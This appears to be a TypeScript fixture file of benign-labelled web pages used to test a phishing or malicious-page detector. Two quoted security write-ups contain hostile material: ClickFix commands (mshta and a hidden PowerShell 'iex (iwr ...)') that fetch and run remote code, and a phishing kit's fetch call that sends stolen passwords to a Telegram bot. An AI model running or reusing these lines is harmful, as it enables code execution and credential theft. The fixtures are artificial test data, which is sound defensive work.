import type { Entry } from '../entry.js';

/** Benign: docs, blogs, shops and checkouts with card fields on the shop's own domain, help articles, security write-ups. */
export const entries: Entry[] = [
  {
    id: 'clean-docs-api-auth',
    label: 'clean',
    kind: 'docs',
    url: 'https://docs.streamline-api.dev/guides/authentication',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Authentication – Streamline API Docs</title><link rel="stylesheet" href="/_next/static/css/docs.css"></head>
<body><nav><a href="/">Docs home</a> <a href="/reference">API reference</a></nav><main><h1>Authentication</h1>
<p>All requests need a bearer token. Create one under <em>Settings → API keys</em>; never paste your account password into scripts.</p>
<pre><code>curl https://api.streamline-api.dev/v2/projects \\
  -H "Authorization: Bearer $STREAMLINE_TOKEN"</code></pre>
<p>Tokens can be rotated at any time. If a token leaks, revoke it immediately. For OAuth, redirect users to <code>https://auth.streamline-api.dev/authorize</code> with your <code>client_id</code>.</p>
<h2>Login form example</h2><p>The hosted login page looks like this:</p><pre><code>&lt;form method="post" action="/login"&gt;
  &lt;input type="email" name="email"&gt;
  &lt;input type="password" name="password"&gt;
&lt;/form&gt;</code></pre></main></body></html>`,
  },
  {
    id: 'clean-docs-readthedocs-like',
    label: 'clean',
    kind: 'docs',
    url: 'https://tidepool.readthedocs-hosted.example.org/en/latest/install.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Installation — tidepool 3.2.0 documentation</title><link rel="stylesheet" href="_static/pygments.css"><script src="_static/documentation_options.js"></script><script src="_static/searchtools.js"></script></head>
<body><div class="document"><div class="body" role="main"><section id="installation"><h1>Installation</h1><p>Install from PyPI:</p><div class="highlight"><pre>pip install tidepool</pre></div>
<p>On Windows, run PowerShell as a normal user (administrator rights are not needed):</p><div class="highlight"><pre>py -m pip install --user tidepool</pre></div>
<p>To build from source, clone the repository and run <code>make install</code>.</p></section></div></div><div class="sphinxsidebar"><form class="search" action="search.html" method="get"><input type="text" name="q"><input type="submit" value="Go"></form></div></body></html>`,
  },
  {
    id: 'clean-shop-product',
    label: 'clean',
    kind: 'shop',
    url: 'https://www.alder-and-oak-goods.com/products/walnut-cutting-board',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Walnut Cutting Board – Alder &amp; Oak Goods</title><script src="//www.alder-and-oak-goods.com/cdn/shop/t/12/assets/theme.js?v=1184" defer></script></head>
<body><header><a href="/">Alder &amp; Oak Goods</a><a href="/cart">Cart (0)</a><a href="/account/login">Log in</a></header>
<main><h1>Walnut Cutting Board</h1><p class="price">$64.00</p><p>Hand-finished black walnut, 16 × 11 inches, food-safe mineral oil finish.</p>
<form method="post" action="/cart/add"><input type="hidden" name="id" value="44021773"><label>Quantity<input name="quantity" type="number" value="1" min="1"></label><button type="submit">Add to cart</button></form>
<p>Free shipping over $75. 30-day returns.</p></main><footer>© 2026 Alder &amp; Oak Goods · <a href="/policies/privacy-policy">Privacy</a></footer></body></html>`,
  },
  {
    id: 'clean-checkout-card-own-domain',
    label: 'clean',
    kind: 'checkout',
    url: 'https://checkout.alder-and-oak-goods.com/checkouts/cn/Z2NwLXVzLWNlbnRyYWwx/payment',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Payment - Alder &amp; Oak Goods - Checkout</title></head>
<body><main><h1>Alder &amp; Oak Goods</h1><ol class="breadcrumb"><li>Cart</li><li>Information</li><li>Shipping</li><li aria-current="step">Payment</li></ol>
<section><h2>Payment</h2><p>All transactions are secure and encrypted.</p><form method="post" action="/checkouts/cn/Z2NwLXVzLWNlbnRyYWwx/payment"><input type="hidden" name="authenticity_token" value="Yq3s9...">
<label>Card number<input name="number" autocomplete="cc-number" inputmode="numeric"></label><label>Expiration date (MM / YY)<input name="expiry" autocomplete="cc-exp"></label><label>Security code<input name="verification_value" autocomplete="cc-csc"></label><label>Name on card<input name="name" autocomplete="cc-name"></label>
<label><input type="checkbox" checked> Use shipping address as billing address</label><button type="submit">Pay now</button></form></section>
<aside><h3>Order summary</h3><p>Walnut Cutting Board × 1 — $64.00</p><p>Shipping — $6.50</p><p><b>Total USD $70.50</b></p></aside></main></body></html>`,
  },
  {
    id: 'clean-checkout-stripe-elements',
    label: 'clean',
    kind: 'checkout',
    url: 'https://shop.nordlicht-kaffee.de/kasse/zahlung',
    body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Kasse – Nordlicht Kaffee</title><script src="https://js.stripe.com/v3/"></script></head>
<body><main><h1>Zahlung</h1><p>Bestellung #10442 · Summe 38,90 €</p><form id="payment-form"><div id="card-element"></div><button id="submit">Jetzt kaufen</button><div id="error-message" role="alert"></div></form></main>
<script>
const stripe = Stripe('pk_live_51NxY2aL0k8rQ2ZpT9Wc3nB');
const elements = stripe.elements({ clientSecret: 'pi_3Q_secret_4f8Kd', locale: 'de' });
const payment = elements.create('payment'); payment.mount('#card-element');
document.getElementById('payment-form').addEventListener('submit', async (e) => {
  e.preventDefault();
  const { error } = await stripe.confirmPayment({ elements, confirmParams: { return_url: 'https://shop.nordlicht-kaffee.de/kasse/danke' } });
  if (error) document.getElementById('error-message').textContent = error.message;
});
</script></body></html>`,
  },
  {
    id: 'clean-checkout-gift-card-balance',
    label: 'clean',
    kind: 'checkout',
    url: 'https://www.citybooks-store.co.uk/gift-cards/balance',
    body: `<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><title>Check your gift card balance | City Books</title></head>
<body><header><a href="/">City Books</a></header><main><h1>Check your gift card balance</h1><form method="post" action="/gift-cards/balance"><label>Card number<input name="card_number" inputmode="numeric" maxlength="19"></label><label>PIN<input name="pin" type="password" maxlength="4" inputmode="numeric"></label><button>Check balance</button></form>
<p>Gift cards can be used in any City Books shop or online. We will never call you to ask for your gift card number.</p></main></body></html>`,
  },
  {
    id: 'clean-help-recognize-phishing',
    label: 'clean',
    kind: 'help-article',
    url: 'https://support.microsoft.com/en-us/windows/protect-yourself-from-phishing-0c7ea947-ba98-3bd9-7184-430e1f860a44',
    body: `<!DOCTYPE html><html lang="en-US"><head><meta charset="utf-8"><title>Protect yourself from phishing - Microsoft Support</title></head>
<body><header><a href="https://www.microsoft.com/">Microsoft</a> <a href="/">Support</a></header><main><h1>Protect yourself from phishing</h1>
<p>Phishing attacks attempt to steal sensitive information through emails, websites, text messages, or other forms of electronic communication.</p>
<h2>Signs of a phishing email</h2><ul><li>Generic greetings such as "Dear customer"</li><li>Urgent calls to action: "Your account will be suspended in 24 hours"</li><li>Links to look-alike domains such as micros0ft-support.com or login-microsoftonline.verify-account.net</li><li>Requests to "verify your password" or enter a code sent to your phone</li></ul>
<p>Microsoft will never ask for your password in an email or call you about a virus on your PC. If you see a pop-up telling you to call a phone number, close the browser.</p></main></body></html>`,
  },
  {
    id: 'clean-help-seed-phrase-safety',
    label: 'clean',
    kind: 'help-article',
    url: 'https://support.metamask.io/privacy-and-security/basic-safety-and-security-tips-for-metamask/',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Basic safety and security tips for MetaMask | MetaMask Help Center</title></head>
<body><main><h1>Basic safety and security tips for MetaMask</h1><p>Your Secret Recovery Phrase (SRP) is the master key to your wallet. Anyone who has your 12-word phrase can take all of your funds.</p>
<ul><li>Never enter your Secret Recovery Phrase on a website. MetaMask Support will never ask for it.</li><li>Be careful with "wallet validation", "rectification" or "sync" sites — they are scams.</li><li>Review token approvals; revoke unlimited allowances you no longer need.</li></ul>
<p>If you think your SRP was exposed, create a new wallet and move your funds immediately.</p></main></body></html>`,
  },
  {
    id: 'clean-help-bank-fraud-fr',
    label: 'clean',
    kind: 'help-article',
    url: 'https://www.banque-rhone-alpes.fr/securite/fraude-hameconnage',
    body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Se protéger du hameçonnage | Banque Rhône-Alpes</title></head>
<body><main><h1>Se protéger du hameçonnage (phishing)</h1><p>Des fraudeurs se font passer pour votre banque par e-mail ou SMS : « Votre compte est bloqué », « Confirmez votre identité ».</p>
<ul><li>Nous ne vous demanderons jamais vos identifiants, votre code confidentiel ou un code reçu par SMS.</li><li>Ne cliquez pas sur les liens ; connectez-vous toujours depuis notre application.</li><li>En cas de doute, appelez votre conseiller au 04 72 00 00 00.</li></ul></main></body></html>`,
  },
  {
    id: 'clean-security-writeup-clickfix',
    label: 'clean',
    kind: 'security-writeup',
    url: 'https://research.blueharbor-security.com/blog/clickfix-campaign-analysis',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Inside a ClickFix campaign: fake CAPTCHAs and mshta | Blue Harbor Research</title></head>
<body><article><h1>Inside a ClickFix campaign</h1><p>Since March we have tracked a campaign that shows a fake "I'm not a robot" check. Clicking it copies a command to the clipboard and instructs the victim:</p>
<blockquote>Press Windows + R, press CTRL + V, press Enter</blockquote><p>The copied command was:</p>
<pre><code>mshta https://[redacted]/verify.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 2165</code></pre>
<p>Another variant used <code>powershell -w hidden -c "iex (iwr 'hxxps://example[.]top/c.ps1')"</code>. The script writes to the clipboard with <code>navigator.clipboard.writeText</code> or the legacy <code>document.execCommand('copy')</code>.</p>
<h2>Indicators</h2><table><tr><td>verify-human[.]store</td><td>domain</td></tr><tr><td>91.92.0.0/16</td><td>infrastructure</td></tr></table><h2>Mitigation</h2><p>Disable the Run dialog through Group Policy for users who do not need it.</p></article></body></html>`,
  },
  {
    id: 'clean-security-writeup-kit-source',
    label: 'clean',
    kind: 'security-writeup',
    url: 'https://www.threatpost-archive.net/2026/10/dissecting-a-telegram-phishing-kit/',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Dissecting a Telegram-exfil phishing kit</title></head>
<body><article><h1>Dissecting a Telegram-exfil phishing kit</h1><p>The kit impersonates a Microsoft 365 sign-in page and sends harvested credentials to a Telegram bot. Here is the relevant part of its JavaScript:</p>
<pre><code>var TOKEN = '[redacted]';
fetch('https://api.telegram.org/bot' + TOKEN + '/sendMessage', {
  method: 'POST', body: JSON.stringify({ chat_id: CHAT, text: 'User: ' + email + ' Pass: ' + pass })
});</code></pre><p>The HTML was delivered base64-encoded and written with <code>document.write(atob(...))</code> to evade static scanners.</p>
<p>Defenders should look for <code>api.telegram.org/bot</code> in page scripts and for password fields on domains unrelated to the brand shown.</p></article></body></html>`,
  },
  {
    id: 'clean-security-training-page',
    label: 'clean',
    kind: 'security-writeup',
    url: 'https://awareness.fennwick-robotics.io/training/module-3',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Security Awareness – Module 3: Spotting fake login pages</title></head>
<body><main><h1>Module 3: Spotting fake login pages</h1><p>Look at the screenshot below. The page looks like a Microsoft sign-in, but the address bar shows <code>micros0ft-online.verify-login.top</code>.</p>
<figure><img src="/img/fake-ms-login.png" alt="Screenshot of a fake Microsoft sign-in page"><figcaption>Example: fake "Sign in to your account" page.</figcaption></figure>
<h2>Quiz</h2><form method="post" action="/training/module-3/answer"><p>Which domain belongs to Microsoft?</p><label><input type="radio" name="q1" value="a"> login.microsoftonline.com</label><label><input type="radio" name="q1" value="b"> login-microsoftonline.com.auth.top</label><button>Submit answer</button></form></main></body></html>`,
  },
  {
    id: 'clean-techsupport-legit-vendor',
    label: 'clean',
    kind: 'legit-support',
    url: 'https://support.lumen-printers.com/contact',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Contact Support | Lumen Printers</title></head>
<body><main><h1>Contact Lumen Printers Support</h1><p>Our support team is available Monday–Friday, 8am–8pm ET.</p><p>Phone: <a href="tel:+18005550123">1-800-555-0123</a></p>
<p>Before calling, please have your printer's serial number ready. Our agents may offer a remote session through our own tool; we will never ask you to pay with gift cards or to log in to your bank.</p>
<form method="post" action="/contact/ticket"><input name="email" placeholder="Email"><input name="serial" placeholder="Serial number"><textarea name="message"></textarea><button>Open a ticket</button></form></main></body></html>`,
  },
  {
    id: 'clean-remote-support-download',
    label: 'clean',
    kind: 'vendor-download',
    url: 'https://anydesk.com/en/downloads/windows',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Download AnyDesk for Windows</title></head>
<body><main><h1>AnyDesk for Windows</h1><p>Version 9.0.5 · 5 MB</p><a class="button" href="https://download.anydesk.com/AnyDesk.exe">Download now</a>
<p>Checksum (SHA-256): 6f3c7d2a…</p><h2>Beware of scammers</h2><p>AnyDesk will never contact you to offer support. Never give remote access to someone who called you unexpectedly.</p></main></body></html>`,
  },
  {
    id: 'clean-vendor-download-ps1',
    label: 'clean',
    kind: 'vendor-download',
    url: 'https://www.greymatter-backup.com/downloads/agent',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Download the GreyMatter Backup Agent</title></head>
<body><main><h1>GreyMatter Backup Agent 5.4</h1><h2>Windows</h2><p><a href="https://downloads.greymatter-backup.com/agent/5.4.1/GreyMatterAgent-5.4.1-x64.msi">GreyMatterAgent-5.4.1-x64.msi</a> (48 MB)</p>
<p>Unattended install for MSPs: download <a href="https://downloads.greymatter-backup.com/agent/5.4.1/Install-GreyMatterAgent.ps1">Install-GreyMatterAgent.ps1</a> and run it in an elevated PowerShell:</p>
<pre><code>.\\Install-GreyMatterAgent.ps1 -TenantKey &lt;your-key&gt; -Silent</code></pre><h2>Linux</h2><pre><code>curl -fsSL https://downloads.greymatter-backup.com/install.sh | sudo bash</code></pre>
<p>All packages are signed. SHA-256 checksums are listed on the <a href="/downloads/checksums">checksums page</a>.</p></main></body></html>`,
  },
  {
    id: 'clean-vendor-download-exe-zip',
    label: 'clean',
    kind: 'vendor-download',
    url: 'https://www.7-zip.org/download.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Download</title></head>
<body><table><tr><td><h1>Download 7-Zip 24.08 (2024-08-11)</h1><table><tr><th>Link</th><th>Type</th><th>Windows</th><th>Size</th></tr>
<tr><td><a href="a/7z2408-x64.exe">Download</a></td><td>.exe</td><td>64-bit x64</td><td>1.6 MB</td></tr><tr><td><a href="a/7z2408.exe">Download</a></td><td>.exe</td><td>32-bit x86</td><td>1.3 MB</td></tr>
<tr><td><a href="a/7z2408-x64.msi">Download</a></td><td>.msi</td><td>64-bit x64</td><td>1.9 MB</td></tr><tr><td><a href="a/7z2408-extra.7z">Download</a></td><td>.7z</td><td>7-Zip Extra: standalone console version</td><td>1.5 MB</td></tr></table>
<p>License: GNU LGPL. You can use 7-Zip on any computer, including a computer in a commercial organization.</p></td></tr></table></body></html>`,
  },
  {
    id: 'clean-vendor-driver-download',
    label: 'clean',
    kind: 'vendor-download',
    url: 'https://www.lumen-printers.com/support/drivers/lp-4400',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>LP-4400 Drivers &amp; Software | Lumen Printers</title></head>
<body><main><h1>LP-4400 Drivers &amp; Software</h1><p>Select your operating system: <select><option>Windows 11 (64-bit)</option><option>macOS 14</option></select></p>
<ul><li><a href="https://dl.lumen-printers.com/drivers/LP4400_FullDriver_v3.12.exe">Full Driver &amp; Software Package v3.12</a> (152 MB)</li><li><a href="https://dl.lumen-printers.com/drivers/LP4400_Firmware_2.05.zip">Firmware 2.05</a> (12 MB)</li><li><a href="https://dl.lumen-printers.com/drivers/LP4400_Mac_v3.12.dmg">macOS driver</a></li></ul></main></body></html>`,
  },];
